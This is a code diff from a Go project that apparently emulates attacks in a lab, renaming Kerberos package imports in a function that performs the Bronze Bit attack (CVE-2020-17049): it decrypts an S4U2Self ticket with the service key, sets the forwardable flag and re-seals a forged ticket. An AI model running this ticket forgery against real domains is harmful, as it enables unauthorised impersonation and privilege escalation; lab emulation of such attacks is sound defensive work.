@@ -4,7 +4,8 @@ import (
 	"context"
 	"fmt"
 
-	"github.com/doublehop/doublehop/krb"
+	"github.com/doublehop/doublehop/krb/kdcclient"
+	"github.com/doublehop/doublehop/krb/kmsg"
 )
 
 // bronzeBit plays CVE-2020-17049 as the web tier's account would: log on
@@ -26,10 +27,10 @@ func (e *Engine) bronzeBit(ctx context.Context, a action) error {
 		return fmt.Errorf("no account %s", h.RunsAs)
 	}
 	addr, d := e.T.KDC()
-	kc := &krb.KDCClient{Addr: addr, Realm: view.Lab.Realm, Dialer: d}
+	kc := &kdcclient.KDCClient{Addr: addr, Realm: view.Lab.Realm, Dialer: d}
 	et := svc.ETypes[0]
 	key := svc.Keys[et]
-	tgt, err := kc.LoginWithKey(ctx, svc.Name, key, svc.KVNO, []int{krb.FlagForwardable})
+	tgt, err := kc.LoginWithKey(ctx, svc.Name, key, svc.KVNO, []int{kmsg.FlagForwardable})
 	if err != nil {
 		return fmt.Errorf("logon of %s: %w", svc.Name, err)
 	}
@@ -37,12 +38,12 @@ func (e *Engine) bronzeBit(ctx context.Context, a action) error {
 	if err != nil {
 		return fmt.Errorf("S4U2Self: %w", err)
 	}
-	etp, err := krb.OpenTicket(self.Ticket, svc.Keys[self.Ticket.EncPart.EType])
+	etp, err := kmsg.OpenTicket(self.Ticket, svc.Keys[self.Ticket.EncPart.EType])
 	if err != nil {
 		return fmt.Errorf("decrypting its own S4U2Self ticket: %w", err)
 	}
-	krb.SetFlag(&etp.Flags, krb.FlagForwardable) // the Bronze Bit
-	forged, err := krb.SealTicket(self.Ticket.SName, self.Ticket.Realm, etp, svc.Keys[self.Ticket.EncPart.EType], self.Ticket.EncPart.KVNO)
+	kmsg.SetFlag(&etp.Flags, kmsg.FlagForwardable) // the Bronze Bit
+	forged, err := kmsg.SealTicket(self.Ticket.SName, self.Ticket.Realm, etp, svc.Keys[self.Ticket.EncPart.EType], self.Ticket.EncPart.KVNO)
 	if err != nil {
 		return err
 	}
